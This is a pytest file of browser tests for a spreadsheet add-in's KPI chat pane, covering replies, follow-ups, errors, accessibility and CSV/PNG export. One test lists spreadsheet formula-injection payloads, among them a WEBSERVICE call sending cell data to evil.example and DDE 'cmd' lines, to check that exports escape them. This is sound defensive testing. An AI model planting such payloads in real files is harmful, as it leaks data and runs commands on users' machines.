"""The conversation as a person has it: asked, answered, gone on from, stopped, taken away."""

import base64
import csv
import io
import json

import pytest

from assistant.wire import Reply
from tests.addin.pane.served import serving
from tests.addin.pane.talking import answered, ask, copy, firsts, keep_copies, last, open_chat, tap

LANGS = pytest.mark.parametrize("lang", ["fr", "en"])
SAID = {
    "fr": ("CPL au T3 2025", "et sur Google Ads ?", "par mois"),
    "en": ("CPL in Q3 2025", "and on Google Ads?", "by month"),
}
WIDTHS = "[...document.querySelectorAll('body *')].filter((e) => e.checkVisibility() && e.getBoundingClientRect().right > innerWidth + 0.5 && !e.closest('.scroll, .unseen, svg')).map((e) => e.className)"


def reply(served, question, **more):
    """Return what the server itself replies."""
    return Reply.model_validate(served.ask("/v1/ask", {"question": question, **more}))


@LANGS
def test_a_question_is_answered_with_the_server_s_words(page, demo, lang):
    """
    The first line, the margin of error and the table are those of the interface, word for word.
    """
    question = {"fr": "top 3 canaux par CPL", "en": "top 3 channels by CPL"}[lang]
    expected = reply(demo, question)
    open_chat(page, demo, lang)
    ask(page, question)

    shown = [*last(page, ".first"), *last(page, ".reply-margin")]
    assert expected.text == " ".join(shown)
    assert expected.table
    assert expected.table.head == last(page, ".told thead th")
    assert [c for row in expected.table.rows for c in row] == last(page, ".told tbody :is(th, td)")
    assert expected.assumptions == last(page, ".assumed li")
    assert [] == page.complaints()


@LANGS
def test_a_follow_up_goes_on_from_the_last_answer(page, demo, lang):
    """
    Each question changes the one before: its KPI, its period and its channel are kept.
    """
    first, second, third = SAID[lang]
    one = reply(demo, first)
    two = reply(demo, second, context=one.context.model_dump(mode="json"))
    three = reply(demo, third, context=two.context.model_dump(mode="json"))
    open_chat(page, demo, lang)
    for question in SAID[lang]:
        ask(page, question)

    texts = page.value(
        "[...document.querySelectorAll('.said')].map((s) => [s.querySelector('.first'), s.querySelector('.reply-margin')].filter(Boolean).map((p) => p.textContent).join(' '))"
    )
    assert [r.text for r in (one, two, three)] == texts


def test_an_option_is_one_tap(page, demo):
    """
    What is asked back has at most three buttons; one tap answers, in the language of the question.
    """
    open_chat(page, demo, "en")
    ask(page, "coût d'acquisition")
    options = last(page, ".option")
    tap(page, ".turn:last-child .option")

    assert 1 < len(options) <= 3
    assert options[:1] == last(page, ".words")
    assert last(page, ".first")[0].startswith(options[0])
    assert [True] * len(options) == page.value(
        "[...document.querySelectorAll('.turn:first-child .option')].map((b) => b.disabled)"
    )


def test_a_choice_is_remembered_for_the_owner(browser, new_demo, tmp_path):
    """
    With the owner's key a tapped meaning is kept; with a key that only reads it is not, and is told so.
    """
    folder = new_demo(tmp_path / "w")
    with serving(folder, key="only to read") as served:
        owner = json.loads((folder / "server.json").read_text())["token"]
        for key, note, then in (
            ("only to read", "Ce choix vaut pour cette réponse", True),
            (owner, "Retenu", False),
        ):
            with browser.page(languages="fr-FR") as other:
                other.visit(f"{served.address}/?lang=fr#ask")
                other.value(f"document.querySelector('#key').value = {key!r}")
                other.click(".key button")
                other.until("!document.querySelector('#chat').hidden")
                other.settle()
                ask(other, "coût d'acquisition")
                tap(other, ".turn:last-child .option")

                assert last(other, ".note li")[0].startswith(note)

                ask(other, "coût d'acquisition")
                assert then is bool(last(other, ".option"))


def test_the_conversation_outlives_a_change_of_tab_and_nothing_else(page, demo):
    """
    Figures and chat go on side by side; nothing is written on the reader's machine, and a new
    conversation forgets the old one.
    """
    open_chat(page, demo)
    ask(page, "CPL au T3 2025")
    before = firsts(page)
    page.click("#views a")
    page.until("document.querySelector('#figures').checkVisibility()")

    assert not page.value("document.querySelector('#chat').checkVisibility()")

    page.click("#views a:last-child")
    page.until("document.querySelector('#chat').checkVisibility()")

    assert before == firsts(page)
    assert [0, 0, ""] == page.value("[sessionStorage.length, localStorage.length, document.cookie]")

    page.click("#new-conversation")
    assert [] == firsts(page)
    ask(page, "et sur Google Ads ?")
    alone = reply(demo, "et sur Google Ads ?")
    assert alone.text.split("\n")[0].startswith(firsts(page)[0])


SLOW = """
const real = fetch;
window.asked = [];
window.fetch = async (path, given) => {
  if (path !== "/v1/ask") return real(path, given);
  window.asked.push(JSON.parse(given.body));
  window.gone = false;
  const stream = new ReadableStream({
    async start(c) {
      const say = (name, data) => c.enqueue(new TextEncoder().encode(`event: ${name}\\ndata: ${JSON.stringify(data)}\\n\\n`));
      given.signal.addEventListener("abort", () => { window.gone = true; c.error(new DOMException("", "AbortError")); });
      say("progress", { stage: "reading" });
      window.go = say;
    },
  });
  return new Response(stream, { headers: { "content-type": "text/event-stream" } });
};
"""


def test_progress_is_told_while_it_lasts(page, demo):
    """
    Each stage that the server tells is said, and cut pieces of the stream are put together.
    """
    page.tell("Page.addScriptToEvaluateOnNewDocument", source=SLOW)
    open_chat(page, demo)
    page.value(
        "document.querySelector('#question').value = 'CPL'; document.querySelector('#send').click()"
    )
    page.until("document.querySelector('.working')")
    first = page.text(".working")
    page.value("go('progress', {stage: 'data'})")
    page.until("document.querySelector('.working').textContent.startsWith('Interrogation')")

    assert "Lecture de la question…" == first
    assert page.value(
        "document.querySelector('#send').hidden && !document.querySelector('#stop').hidden"
    )


@pytest.mark.parametrize("how", ["button", "escape"])
def test_a_question_can_be_stopped(page, demo, how):
    """
    Stopping ends the request itself, says so, and offers to ask again.
    """
    page.tell("Page.addScriptToEvaluateOnNewDocument", source=SLOW)
    open_chat(page, demo)
    page.value(
        "document.querySelector('#question').value = 'CPL'; document.querySelector('#send').click()"
    )
    page.until("window.go")
    if how == "button":
        page.click("#stop")
    else:
        page.value("document.querySelector('#question').focus()")
        page.value(
            "document.activeElement.dispatchEvent(new KeyboardEvent('keydown', {key: 'Escape', bubbles: true}))"
        )
    page.until("document.querySelector('.turn .soft')")

    assert page.value("window.gone")
    assert "Arrêté avant la réponse." in page.text(".turn .soft")
    assert page.value("!document.querySelector('#send').hidden")


REFUSING = """
const real = fetch;
window.fetch = (path, given) => {
  if (path !== "/v1/ask" || window.mended) return real(path, given);
  if (%(status)d === 0) return Promise.reject(new TypeError("no network"));
  return Promise.resolve(new Response(JSON.stringify({message: {fr: "Le serveur le dit.", en: "The server says so."}}),
    { status: %(status)d, headers: { "content-type": "application/problem+json", "retry-after": "7" } }));
};
"""


@pytest.mark.parametrize(
    ("status", "sentence"),
    [
        (0, "Le serveur ne répond pas. Vérifiez que kpi serve est lancé, puis réessayez."),
        (401, "Le serveur le dit."),
        (429, "Trop de questions à la fois pour cette clé. Redemandez dans 7\u202fs."),
        (503, "Le serveur le dit."),
    ],
)
def test_trouble_says_what_to_do(page, demo, status, sentence):
    """
    A server that is away, refuses the key, is asked too fast or is busy: said in words, with a way out.
    """
    page.tell("Page.addScriptToEvaluateOnNewDocument", source=REFUSING % {"status": status})
    open_chat(page, demo)
    ask(page, "CPL au T3 2025")

    assert [sentence] == last(page, "[role=alert]")

    page.value("window.mended = true")
    page.click(".turn:last-child .reply button")
    if status == 401:
        page.until("document.querySelector('#key')")
        page.value("document.querySelector('#key').value = 'any'")
        page.click(".key button")
    page.until("document.querySelector('.said .first')")


def test_a_reply_that_is_none_is_said_so(page, demo):
    """
    What is no reply of ours breaks nothing: it is told, and another question can be asked.
    """
    page.tell(
        "Page.addScriptToEvaluateOnNewDocument",
        source="const real = fetch; window.fetch = (path, given) => path === '/v1/ask' && !window.mended"
        " ? Promise.resolve(new Response('{\"text\": 5}', {headers: {'content-type': 'application/json'}})) : real(path, given);",
    )
    open_chat(page, demo)
    ask(page, "CPL")

    assert last(page, "[role=alert]")

    page.value("window.mended = true")
    ask(page, "CPL au T3 2025")
    assert last(page, ".first")


def test_the_keyboard_is_enough(page, demo):
    """
    A question, its options and what can be taken away are reached and pressed without a pointer.
    """
    open_chat(page, demo)
    ask(page, "coût d'acquisition")
    page.value("document.querySelector('.turn:last-child .option').focus()")
    page.press("Enter")
    page.until("document.querySelectorAll('.turn').length === 2")
    answered(page)
    met = []
    page.value("document.querySelector('#views a:last-child').focus()")
    for _ in range(12):
        page.press("Tab")
        met.append(
            page.value(
                "document.activeElement.id || document.activeElement.dataset.action || document.activeElement.tagName"
            )
        )

    assert "new-conversation" == met[0]
    assert ["copyText", "copyCsv"] == [m for m in met if m.startswith("copy")][:2]
    assert "question" in met
    assert met.index("question") < met.index("send")


def test_a_screen_reader_hears_the_reply(page, demo):
    """
    The reply is said politely, with how many options wait; the picture has a title and a description.
    """
    open_chat(page, demo, "en")
    ask(page, "acquisition cost")
    heard = page.text("#said")
    ask(page, "CPL by month in 2025")

    assert "status" == page.value("document.querySelector('#said').getAttribute('role')")
    assert "options below" in heard
    assert page.text("#said").startswith("Cost per lead (CPL) by month")
    assert page.text(".turn:last-child figure svg > title")
    assert "lowest" in page.text(".turn:last-child figure svg > desc")


@pytest.mark.parametrize("width", [320, 480, 768, 1600])
def test_it_fits_any_width(browser, demo, width):
    """
    From 320 pixels to a whole screen nothing is wider than the page; tables scroll in themselves.
    """
    with browser.page(width=width, languages="fr-FR") as narrow:
        open_chat(narrow, demo)
        for question in (
            "leads par canal et par mois en 2025",
            "top 5 canaux par CPL",
            "conversion",
            "comment ça va ?",
        ):
            ask(narrow, question)
        narrow.until(
            f"document.querySelector('figure svg').getBoundingClientRect().right <= {width}"
        )

        assert [] == narrow.value(WIDTHS)
        assert width == narrow.value("document.documentElement.scrollWidth")
        assert [] == narrow.complaints()


READABLE = """
(() => {
  const light = (colour) => { const [r, g, b] = colour.match(/[\\d.]+/g).map(Number).map((v) => v / 255).map((v) => (v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4)); return 0.2126 * r + 0.7152 * g + 0.0722 * b; };
  const ground = (e) => { for (; e; e = e.parentElement) { const c = getComputedStyle(e).backgroundColor; if (!/, 0\\)$/.test(c)) return c; } return "rgb(255,255,255)"; };
  const ratio = (a, b) => { const [x, y] = [light(a), light(b)].sort((m, n) => n - m); return (x + 0.05) / (y + 0.05); };
  return [...document.querySelectorAll("#chat :is(p, li, th, td, button, summary, h3, figcaption)")].filter((e) => e.checkVisibility() && e.textContent.trim() && !e.disabled)
    .map((e) => [e.tagName + "." + e.className, ratio(getComputedStyle(e).color, ground(e))]).filter(([, r]) => r < 4.5);
})()
"""


@pytest.mark.parametrize("dark", [False, True])
def test_it_can_be_read_by_day_and_by_night(browser, demo, dark):
    """
    In light and in dark colours every word stands out from its ground.
    """
    with browser.page(dark=dark) as shown:
        open_chat(shown, demo, "en")
        for question in ("top 3 channels by CPL", "conversion", "delete everything"):
            ask(shown, question)

        assert [] == shown.value(READABLE)


def test_csv_opens_as_numbers(page, demo):
    """
    In French semicolons and decimal commas, in English commas and points: the numbers that were shown.
    """
    for lang, question, separator, decimal in (
        ("fr", "CPL par canal au T3 2025", ";", ","),
        ("en", "CPL by channel in Q3 2025", ",", "."),
    ):
        open_chat(page, demo, lang)
        keep_copies(page)
        ask(page, question)
        copied = copy(page, "copyCsv")
        rows = list(csv.reader(io.StringIO(copied), delimiter=separator))
        expected = reply(demo, question)

        assert expected.table.head == rows[0]
        values = [None if not row[1] else float(row[1].replace(decimal, ".")) for row in rows[1:]]
        assert values == [
            None if r.value is None else pytest.approx(r.value, abs=0.006) for r in expected.rows
        ]


def test_a_number_alone_is_a_table_too(page, demo):
    """
    An answer of one number is copied with its margin of error and its dates.
    """
    open_chat(page, demo)
    keep_copies(page)
    ask(page, "CPL au T3 2025")
    head, row = csv.reader(io.StringIO(copy(page, "copyCsv")), delimiter=";")
    (expected,) = reply(demo, "CPL au T3 2025").rows

    assert 6 == len(head) == len(row)
    assert pytest.approx(expected.value) == float(row[1].replace(",", "."))
    assert [expected.period.start.isoformat(), expected.period.end.isoformat()] == row[4:]


FORMULAS = (
    '=WEBSERVICE("https://evil.example/?d="&A1)', "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\0=1+1", "＝1+1", 'a","=1+1', "a;=1+1",
    '=IMPORTRANGE("id","A1")', "{=1+1}", "+49 170 1234567",
)  # fmt: skip


@pytest.mark.parametrize("lang", ["fr", "en"])
def test_no_cell_of_a_copy_is_a_formula(page, empty, lang):
    """
    A text that a spreadsheet would compute has an apostrophe before it; a negative number has none.
    """
    page.visit(empty.address)
    table = {
        "head": ["name", "value"],
        "numeric": [False, True],
        "rows": [[name, "-5,5 €" if lang == "fr" else "-€5.50"] for name in FORMULAS],
    }
    asked = json.dumps({"table": table, "rows": [], "lang": lang})
    copied = page.value(f"import('/pane/takeaway.js').then(({{ copyCsv }}) => copyCsv({asked}))")
    rows = list(
        csv.reader(io.StringIO(copied, newline=""), delimiter=";" if lang == "fr" else ",")
    )[1:]

    assert [2] * len(FORMULAS) == [len(row) for row in rows]
    assert {"-5,5" if lang == "fr" else "-5.50"} == {row[1] for row in rows}
    assert list(FORMULAS) == [row[0].removeprefix("'") for row in rows]
    harmless = {'a","=1+1', "a;=1+1"}
    assert [n for n in FORMULAS if n not in harmless] == [
        r[0][1:] for r in rows if r[0].startswith("'")
    ]


@pytest.mark.parametrize(
    "question",
    ["CPL par mois en 2025", "leads par canal et par mois en 2025", "top 5 canaux par CPL"],
)
def test_the_picture_is_a_png(page, demo, question):
    """
    The chart is saved as a picture of its own size twice over, and nothing is asked of the network.
    """
    open_chat(page, demo)
    ask(page, question)
    before = len(page.requests())
    # A chart is drawn again when its place gets wider: the picture and the width are of one drawing.
    told, width = page.value(
        "(() => { const svg = document.querySelector('.turn:last-child figure svg');"
        "const width = Number(svg.getAttribute('width'));"
        "return import('/pane/takeaway.js').then(({ png }) => png(svg, 'CPL'))"
        ".then((blob) => blob.arrayBuffer())"
        ".then((b) => [btoa(Array.from(new Uint8Array(b), (n) => String.fromCharCode(n)).join('')), width]); })()"
    )
    picture = base64.b64decode(told)

    assert b"\x89PNG\r\n\x1a\n" == picture[:8]
    assert 2 * (width + 40) == int.from_bytes(picture[16:20], "big")
    assert len(picture) > 5000
    assert [] == [a for a in page.requests()[before:] if not a.startswith(("data:", demo.address))]
    assert [] == page.complaints()


def test_words_and_formula_can_be_taken_away(page, demo):
    """
    The whole reply as text, and the formula that gives the number in a cell.
    """
    open_chat(page, demo)
    keep_copies(page)
    ask(page, "CAC sur LinkedIn au T3 2025")
    expected = reply(demo, "CAC sur LinkedIn au T3 2025")
    text = copy(page, "copyText")

    assert text.startswith("CAC sur LinkedIn au T3 2025\n\n" + expected.text)
    assert all(line in text for line in [*expected.caveats, *expected.details])
    assert expected.formula == copy(page, "copyFormula")


@LANGS
def test_what_is_suggested_is_answered(page, demo, lang):
    """
    Each question offered to begin with is answered, and holds no number of its own.
    """
    open_chat(page, demo, lang)
    offered = page.texts(".suggestion")

    assert len(offered) >= 5
    assert {"answer"} == {reply(demo, question).outcome for question in offered}
    assert {lang} == {reply(demo, question).lang.value for question in offered[:1]}

    page.click(".suggestion")
    answered(page)
    assert [offered[0]] == page.texts(".words")
    assert page.value("document.querySelector('#chat-welcome').hidden")


def test_two_caveats_are_seen_and_the_others_folded(page, demo):
    """
    What must be known first is in sight; the rest is one click away.
    """
    question = "CPL par canal et par mois en 2025"
    expected = reply(demo, question).caveats
    open_chat(page, demo)
    ask(page, question)

    seen, folded = last(page, ".caveats > ul > li"), last(page, ".caveats details li")

    assert len(expected) > 2 == len(seen)
    assert sorted(expected) == sorted([*seen, *folded])
    assert not page.value("document.querySelector('.caveats details').open")


def test_an_empty_workspace_can_be_talked_to(page, empty):
    """
    Before any import a definition is told, and what can be asked.
    """
    open_chat(page, empty)
    for question in page.texts(".suggestion"):
        ask(page, question)

    assert 2 == len(firsts(page))
    assert [] == page.complaints()


def test_the_picture_is_downloaded_under_the_policy(page, demo):
    """
    The button saves the picture without a request, and the policy has nothing to refuse.
    """
    open_chat(page, demo, "en")
    ask(page, "top 5 channels by CPL")
    page.tell("Page.setDownloadBehavior", behavior="deny")
    page.click(".turn:last-child [data-action=savePng]")
    page.until(
        "document.querySelector('.turn:last-child [data-action=savePng]').textContent === 'Downloaded'"
    )

    assert [] == page.complaints()


@pytest.mark.parametrize(
    ("spoken", "formula"),
    [("fr", '=B2B_KPI("CPL";"2025-Q3")'), ("en", '=B2B_KPI("CPL","2025-Q3")')],
)
def test_a_formula_goes_into_the_sheet_whatever_language_it_is_in(page, demo, spoken, formula):
    """
    Beside a sheet, the formula of a reply is put into the active cell through the sheet's own way.
    """
    page.visit(f"{demo.address}/?lang=fr")
    reply_ = {
        "outcome": "answer", "lang": spoken, "text": "x", "rows": [], "options": [], "chart": None,
        "table": None, "assumptions": [], "caveats": [], "details": [], "notes": [], "context": None,
        "formula": formula,
    }  # fmt: skip
    put = page.value(
        "import('/pane/reply.js').then(async ({ shownReply }) => { const put = [];"
        " const sheet = { insert: async (...given) => put.push(given) };"
        f" const shown = shownReply({json.dumps(reply_)}, {{ locale: 'fr-FR', sheet, said: 'x' }});"
        " shown.querySelector('[data-action=insertShort]').click(); await null; return put; })"
    )

    assert [["B2B_KPI", ["CPL", "2025-Q3"]]] == put
